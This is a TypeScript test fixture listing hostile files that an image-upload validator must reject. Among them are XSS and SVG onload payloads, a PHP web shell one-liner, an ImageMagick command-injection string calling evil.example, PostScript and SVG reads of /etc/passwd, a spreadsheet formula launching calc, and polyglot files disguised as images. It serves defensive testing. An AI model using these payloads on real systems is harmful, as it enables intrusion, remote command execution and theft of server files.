import { gzipSync } from 'node:zlib';

/** A file as someone sends it: its bytes, and its declared type. */
export interface HostileFile {
  what: string;
  bytes: Uint8Array;
  name?: string;
  type?: string;
}

/** Hidden in files; nothing that is returned may contain it. */
export const HIDDEN = 'hidden-by-a-test';

export const SCRIPT = `<script>/*${HIDDEN}*/alert(1)</script>`;
export const latin = (text: string) => Buffer.from(text, 'latin1');

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

const named = (files: Record<string, Uint8Array | string>): HostileFile[] =>
  Object.entries(files).map(([what, bytes]) => ({
    what,
    bytes: typeof bytes === 'string' ? latin(bytes) : bytes,
  }));

/** Files of other kinds, none of which is a picture that we accept. */
export const otherKinds = (): HostileFile[] =>
  named({
    nothing: '',
    'one byte': '\xff',
    'one zero': '\0',
    'two bytes of a JPEG': '\xff\xd8',
    'three bytes of a JPEG': '\xff\xd8\xff',
    'the signature of a PNG': '\x89PNG\r\n\x1a\n',
    'the signature of a WebP': 'RIFF\x10\0\0\0WEBP',
    spaces: ' '.repeat(5000),
    zeros: '\0'.repeat(5000),
    'an SVG': SVG,
    'an SVG with a declaration': `<?xml version="1.0"?>${SVG}`,
    'an SVG with a doctype': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">${SVG}`,
    'an SVG with entities': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${SVG}`,
    'an SVG after a byte-order mark': `\xef\xbb\xbf${SVG}`,
    'an SVG in UTF-16': new Uint8Array(Buffer.from(`\ufeff${SVG}`, 'utf16le')),
    'an SVG in gzip': new Uint8Array(gzipSync(SVG)),
    'an SVG that loads a file':
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    'a page': `<!doctype html>${SCRIPT}`,
    'a page without a doctype': SCRIPT,
    'a page in XML': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`,
    'a page behind line breaks': `\n\n\n${SCRIPT}`,
    'a page that begins like a JPEG': `\xff\xd8\xff\xe0${SCRIPT}`,
    'a page that begins like a PNG': `\x89PNG\r\n\x1a\n${SCRIPT}`,
    'a page that begins like a WebP': `RIFF\xff\0\0\0WEBPVP8 ${SCRIPT}`,
    'a mail with a page': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    'a script': 'alert(1)',
    'a script of the shell': '#!/bin/sh\nid',
    'a script of PHP': '<?php system($_GET["c"]); ?>',
    'a style': '@import "https://evil.example";',
    'a manifest': 'CACHE MANIFEST\n/',
    'settings of a server': 'AddType application/x-httpd-php .jpg',
    JSON: '{"isAdmin":true}',
    'a table': '=cmd|"/c calc"!A1,1',
    'a GIF': 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
    'an old GIF': 'GIF87a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
    'a GIF that is a script': 'GIF89a/*\x01\0*/=1;alert(1)',
    'a BMP': `BM${'\0'.repeat(60)}`,
    'a TIFF': `II*\0${'\0'.repeat(60)}`,
    'the other TIFF': `MM\0*${'\0'.repeat(60)}`,
    'an icon': `\0\0\x01\0\x01\0${'\0'.repeat(60)}`,
    'a HEIC photo': `\0\0\0\x18ftypheic${'\0'.repeat(60)}`,
    'an AVIF': `\0\0\0\x18ftypavif${'\0'.repeat(60)}`,
    'a JPEG XL': `\0\0\0\x0cJXL \r\n\x87\n${'\0'.repeat(60)}`,
    'a JPEG 2000': `\0\0\0\x0cjP  \r\n\x87\n${'\0'.repeat(60)}`,
    'a drawing of Photoshop': `8BPS\0\x01${'\0'.repeat(60)}`,
    PostScript: '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file',
    'a script for ImageMagick':
      'push graphic-context\nfill "url(https://evil.example/x.jpg"|id")"\npop graphic-context',
    'a film': `\0\0\0\x18ftypisom${'\0'.repeat(60)}`,
    'a film of the web': `\x1aE\xdf\xa3${'\0'.repeat(60)}`,
    'a sound': `RIFF\x24\0\0\0WAVEfmt ${'\0'.repeat(60)}`,
    'a film in RIFF': `RIFF\x24\0\0\0AVI LIST${'\0'.repeat(60)}`,
    'a zip': `PK\x03\x04${'\0'.repeat(60)}`,
    'a rar': `Rar!\x1a\x07\x01\0${'\0'.repeat(60)}`,
    'a 7z': `7z\xbc\xaf\x27\x1c${'\0'.repeat(60)}`,
    'a tar': `${'a'.repeat(257)}ustar\0${'\0'.repeat(300)}`,
    'a program of Linux': `\x7fELF\x02\x01\x01${'\0'.repeat(60)}`,
    'a program of Windows': `MZ\x90\0${'\0'.repeat(60)}`,
    'a class of Java': `\xca\xfe\xba\xbe\0\0\0\x34${'\0'.repeat(60)}`,
    WebAssembly: '\0asm\x01\0\0\0',
    'a font': `wOF2\0\x01\0\0${'\0'.repeat(60)}`,
    Flash: `CWS\x0a${'\0'.repeat(60)}`,
    'a page with a PDF in it': `${SCRIPT}%PDF-1.7\n%%EOF`,
    'a PDF without an end': `%PDF-1.7\n${'\0'.repeat(60)}`,
  });
